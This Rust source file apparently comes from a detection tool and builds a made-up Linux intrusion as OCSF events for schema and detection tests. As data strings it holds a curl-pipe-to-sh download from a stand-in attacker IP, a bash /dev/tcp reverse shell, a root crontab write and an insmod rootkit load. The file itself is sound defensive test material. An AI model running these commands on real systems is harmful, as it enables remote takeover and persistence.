//! A made-up but realistic intrusion on one Linux host, as Vigil's OCSF events: the
//! example that `vigil ocsf example` writes, that tests validate against the schema and
//! that detection tests hunt over. Deterministic: the same start time gives the same
//! events.
//!
//! The story, on host `web-01`: an SSH logon as `deploy` from 203.0.113.7; a shell runs
//! `curl -fsSL http://198.51.100.23/x.sh | sh` (a DNS query, a connection); the script
//! drops `/tmp/.x/kworker`, makes it executable and runs it; the implant opens a reverse
//! shell (`bash -i >& /dev/tcp/198.51.100.23/4444 0>&1`), writes root's crontab and loads
//! a kernel module; the reverse shell exits.

use crate::model::*;

const HOST: &str = "web-01";
const ATTACKER_IP: &str = "198.51.100.23";
const HOST_IP: &str = "10.0.0.5";

fn device(boot_time: i64) -> Device {
    Device {
        type_id: device_type::SERVER,
        kind: Some(device_type::name(device_type::SERVER).into()),
        hostname: Some(HOST.into()),
        uid: Some("4c4c4544-0042-3510-8052-b7c04f4e3732".into()),
        ip: Some(HOST_IP.into()),
        os: Some(Os {
            name: "Debian GNU/Linux 12".into(),
            type_id: os_type::LINUX,
            kind: Some(os_type::name(os_type::LINUX).into()),
            kernel_release: Some("6.1.0-27-amd64".into()),
            ..Os::default()
        }),
        boot_time: Some(boot_time),
        ..Device::default()
    }
}

fn user(name: &str, uid: u32) -> User {
    let ty = if uid == 0 {
        user_type::ADMIN
    } else {
        user_type::USER
    };
    User {
        name: Some(name.into()),
        uid: Some(uid.to_string()),
        type_id: Some(ty),
        kind: Some(user_type::name(ty).into()),
        ..User::default()
    }
}

fn file(path: &str, type_id: i32) -> File {
    let (parent, name) = path.rsplit_once('/').unwrap_or(("", path));
    File {
        name: name.into(),
        type_id,
        kind: Some(file_type::name(type_id).into()),
        path: Some(path.into()),
        parent_folder: Some(if parent.is_empty() {
            "/".into()
        } else {
            parent.into()
        }),
        ..File::default()
    }
}

/// A process with a stable uid derived from its pid and start time.
fn process(
    pid: i32,
    exe: &str,
    cmd: &str,
    start: i64,
    owner: &User,
    parent: Option<&Process>,
) -> Process {
    let mut exe_file = file(exe, file_type::REGULAR);
    exe_file.hashes = vec![Fingerprint {
        algorithm_id: hash_algorithm::SHA256,
        algorithm: Some(hash_algorithm::name(hash_algorithm::SHA256).into()),
        value: format!(
            "{:064x}",
            u128::from(pid.unsigned_abs()) * 0x9e37_79b9_7f4a_7c15
        ),
    }];
    let mut ancestry = Vec::new();
    if let Some(p) = parent {
        ancestry.push(Shared::new(ProcessEntity {
            pid: p.pid,
            uid: p.uid.clone(),
            name: p.name.clone(),
            path: p.file.as_ref().and_then(|f| f.path.clone()),
            cmd_line: p.cmd_line.clone(),
            created_time: p.created_time,
        }));
        ancestry.extend(p.ancestry.iter().cloned());
    }
    Process {
        pid: Some(pid),
        uid: Some(format!("b1d0c0de-{pid}-{start}")),
        name: exe.rsplit('/').next().map(String::from),
        cmd_line: Some(cmd.into()),
        file: Some(exe_file),
        // The parent without its own lineage: the rest of the chain is in `ancestry`.
        parent_process: parent.map(|p| {
            Shared::new(Process {
                parent_process: None,
                ancestry: Vec::new(),
                ..p.clone()
            })
        }),
        ancestry,
        user: Some(Shared::new(owner.clone())),
        working_directory: Some("/home/deploy".into()),
        created_time: Some(start),
        session: Some(Session {
            uid: Some("42".into()),
            terminal: Some("pts/0".into()),
            is_remote: Some(true),
            ..Session::default()
        }),
        ..Process::default()
    }
}

fn actor(p: &Process) -> Actor {
    Actor {
        process: Some(Shared::new(p.clone())),
        user: p.user.clone(),
        ..Actor::default()
    }
}

fn endpoint(ip: &str, port: i32) -> NetworkEndpoint {
    NetworkEndpoint {
        ip: Some(ip.into()),
        port: Some(port),
        ..NetworkEndpoint::default()
    }
}

fn tcp_outbound() -> NetworkConnectionInfo {
    NetworkConnectionInfo {
        direction_id: direction::OUTBOUND,
        direction: Some(direction::name(direction::OUTBOUND).into()),
        protocol_name: Some("tcp".into()),
        protocol_num: Some(6),
        protocol_ver_id: Some(protocol_version::IPV4),
        protocol_ver: Some(protocol_version::name(protocol_version::IPV4).into()),
        ..NetworkConnectionInfo::default()
    }
}

/// The story's events, in time order, starting at `start` (ms since the epoch).
pub fn attack_story(start: i64) -> Vec<OcsfEvent> {
    let feature = "example";
    let dev = Shared::new(device(start - 86_400_000));
    let deploy = user("deploy", 1001);
    let root = user("root", 0);
    let t = std::cell::Cell::new(start);
    let next = |ms: i64| {
        t.set(t.get() + ms);
        t.get()
    };
    let mut out: Vec<OcsfEvent> = Vec::new();

    let sshd = process(
        612,
        "/usr/sbin/sshd",
        "sshd: /usr/sbin/sshd -D",
        start - 3_600_000,
        &root,
        None,
    );
    let mut logon = Authentication::new(1, next(0), feature, deploy.clone());
    logon.src_endpoint = Some(endpoint("203.0.113.7", 50_122));
    logon.dst_endpoint = Some(endpoint(HOST_IP, 22));
    logon.logon_type_id = Some(logon_type::REMOTE_INTERACTIVE);
    logon.logon_type = Some(logon_type::name(logon_type::REMOTE_INTERACTIVE).into());
    logon.is_remote = Some(true);
    logon.service = Some(Service {
        name: Some("sshd".into()),
        ..Service::default()
    });
    logon.status_id = Some(status::SUCCESS);
    logon.actor = Some(actor(&sshd));
    logon.device = Some(dev.clone());
    out.push(logon.into());

    let bash = process(
        4100,
        "/usr/bin/bash",
        "-bash",
        next(1_000),
        &deploy,
        Some(&sshd),
    );
    let launch = |p: &Process, parent: &Process, time: i64| -> OcsfEvent {
        let mut e = ProcessActivity::new(1, time, feature, p.clone());
        e.actor = Some(actor(parent));
        e.device = Some(dev.clone());
        e.into()
    };
    out.push(launch(&bash, &sshd, t.get()));

    let cmd = format!("curl -fsSL http://{ATTACKER_IP}/x.sh");
    let curl = process(
        4123,
        "/usr/bin/curl",
        &cmd,
        next(20_000),
        &deploy,
        Some(&bash),
    );
    out.push(launch(&curl, &bash, t.get()));
    let sh = process(4124, "/usr/bin/dash", "sh", t.get(), &deploy, Some(&bash));
    out.push(launch(&sh, &bash, t.get()));

    let mut dns = DnsActivity::new(1, next(5), feature);
    dns.query = Some(DnsQuery {
        hostname: "updates.example-cdn.net".into(),
        kind: Some("A".into()),
        class: Some("IN".into()),
        packet_uid: Some(0x1c2d),
        opcode_id: Some(dns_opcode::QUERY),
        opcode: Some(dns_opcode::name(dns_opcode::QUERY).into()),
    });
    dns.src_endpoint = Some(endpoint(HOST_IP, 41_000));
    dns.dst_endpoint = Some(endpoint("10.0.0.2", 53));
    dns.actor = Some(actor(&curl));
    dns.device = Some(dev.clone());
    out.push(dns.into());

    let connect = |p: &Process, port: i32, time: i64| -> OcsfEvent {
        let mut e = NetworkActivity::new(1, time, feature);
        e.src_endpoint = Some(endpoint(HOST_IP, 41_002));
        e.dst_endpoint = Some(endpoint(ATTACKER_IP, port));
        e.connection_info = Some(tcp_outbound());
        e.actor = Some(actor(p));
        e.device = Some(dev.clone());
        e.into()
    };
    out.push(connect(&curl, 80, next(20)));

    let implant_path = "/tmp/.x/kworker";
    let mut drop = FileActivity::new(
        1,
        next(300),
        feature,
        file(implant_path, file_type::REGULAR),
    );
    drop.actor = Some(actor(&sh));
    drop.device = Some(dev.clone());
    out.push(drop.into());

    let chmod = process(
        4125,
        "/usr/bin/chmod",
        &format!("chmod +x {implant_path}"),
        next(10),
        &deploy,
        Some(&sh),
    );
    out.push(launch(&chmod, &sh, t.get()));
    let mut exec_bit = file(implant_path, file_type::REGULAR);
    exec_bit.attributes = Some(0o100_755);
    let mut set_attr = FileActivity::new(6, next(1), feature, exec_bit);
    set_attr.actor = Some(actor(&chmod));
    set_attr.device = Some(dev.clone());
    out.push(set_attr.into());

    let implant = process(
        4126,
        implant_path,
        implant_path,
        next(15),
        &deploy,
        Some(&sh),
    );
    out.push(launch(&implant, &sh, t.get()));

    let rev_cmd = format!("bash -c bash -i >& /dev/tcp/{ATTACKER_IP}/4444 0>&1");
    let revshell = process(
        4127,
        "/usr/bin/bash",
        &rev_cmd,
        next(200),
        &deploy,
        Some(&implant),
    );
    out.push(launch(&revshell, &implant, t.get()));
    out.push(connect(&revshell, 4444, next(3)));

    let sudo = process(
        4140,
        "/usr/bin/sudo",
        "sudo -n crontab /tmp/.x/cron",
        next(60_000),
        &root,
        Some(&revshell),
    );
    out.push(launch(&sudo, &revshell, t.get()));
    let mut cron = FileActivity::new(
        3,
        next(40),
        feature,
        file("/var/spool/cron/crontabs/root", file_type::REGULAR),
    );
    cron.actor = Some(actor(&sudo));
    cron.device = Some(dev.clone());
    out.push(cron.into());

    let insmod = process(
        4150,
        "/usr/sbin/insmod",
        "insmod /tmp/.x/rk.ko",
        next(5_000),
        &root,
        Some(&revshell),
    );
    out.push(launch(&insmod, &revshell, t.get()));
    let mut module = ModuleActivity::new(
        1,
        next(2),
        feature,
        Module {
            file: Some(file("/tmp/.x/rk.ko", file_type::REGULAR)),
            load_type_id: Some(module_load_type::STANDARD),
            load_type: Some(module_load_type::name(module_load_type::STANDARD).into()),
            kind: Some("kernel module".into()),
            ..Module::default()
        },
    );
    module.actor = Some(actor(&insmod));
    module.device = Some(dev.clone());
    out.push(module.into());

    let mut exit = ProcessActivity::new(2, next(120_000), feature, revshell.clone());
    exit.process.terminated_time = Some(t.get());
    exit.exit_code = Some(0);
    exit.actor = Some(actor(&revshell));
    exit.device = Some(dev);
    out.push(exit.into());
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Event, FieldPath, Value};

    #[test]
    fn story_is_deterministic_and_ordered() {
        let a = attack_story(1_700_000_000_000);
        let b = attack_story(1_700_000_000_000);
        assert_eq!(a, b);
        assert!(a.windows(2).all(|w| w[0].time() <= w[1].time()));
        let classes: std::collections::BTreeSet<i32> = a.iter().map(OcsfEvent::class_uid).collect();
        assert_eq!(
            classes.into_iter().collect::<Vec<_>>(),
            [1001, 1005, 1007, 3002, 4001, 4003]
        );
    }

    #[test]
    fn lineage_and_sigma_fields_resolve() {
        let story = attack_story(0);
        let tax = crate::taxonomy::Taxonomy::linux().expect("mapping");
        let pc = tax.category("process_creation").expect("category");
        let rev = story
            .iter()
            .find(|e| {
                e.field(&FieldPath::new("process.cmd_line"))
                    .is_some_and(|v| v.as_str().is_some_and(|s| s.contains("/dev/tcp/")))
            })
            .expect("reverse shell launch");
        let get = |sigma: &str| {
            rev.field(pc.field(sigma).expect("mapped"))
                .map(Value::into_owned)
        };
        assert_eq!(get("Image"), Some(Value::Str("/usr/bin/bash".into())));
        assert_eq!(
            get("ParentImage"),
            Some(Value::Str("/tmp/.x/kworker".into()))
        );
        assert_eq!(get("User"), Some(Value::Str("deploy".into())));
        assert_eq!(get("ProcessId"), Some(Value::Int(4127)));
        let ancestry = rev
            .field(&FieldPath::new("process.ancestry.path"))
            .expect("ancestry");
        assert_eq!(
            ancestry,
            Value::List(vec![
                Value::Str("/tmp/.x/kworker".into()),
                Value::Str("/usr/bin/dash".into()),
                Value::Str("/usr/bin/bash".into()),
                Value::Str("/usr/sbin/sshd".into()),
            ])
        );
    }

    #[test]
    fn keyword_search_skips_lineage_context() {
        let story = attack_story(0);
        // The crontab write by sudo, whose parent is the reverse shell.
        let cron = story
            .iter()
            .find(|e| {
                e.field(&FieldPath::new("file.path"))
                    .is_some_and(|v| v.as_str() == Some("/var/spool/cron/crontabs/root"))
            })
            .expect("cron write");
        let parent_cmd = cron
            .field(&FieldPath::new("actor.process.parent_process.cmd_line"))
            .and_then(|v| v.as_str().map(String::from))
            .expect("lineage is still there by path");
        assert!(parent_cmd.contains("/dev/tcp/"));
        let mut strings = Vec::new();
        cron.for_each_str(&mut |s| strings.push(s.to_string()));
        assert!(
            strings.iter().any(|s| s.contains("crontab")),
            "the event's own strings"
        );
        assert!(
            !strings.iter().any(|s| s.contains("/dev/tcp/")),
            "not its ancestors'"
        );
    }

    #[test]
    fn json_round_trip_keeps_every_event() {
        for e in attack_story(1_000) {
            let json = e.to_json();
            assert_eq!(
                json["type_uid"],
                json["class_uid"].as_i64().unwrap_or(0) * 100
                    + json["activity_id"].as_i64().unwrap_or(0)
            );
            let back = OcsfEvent::from_json(json).expect("parses back");
            assert_eq!(back, e);
        }
    }
}
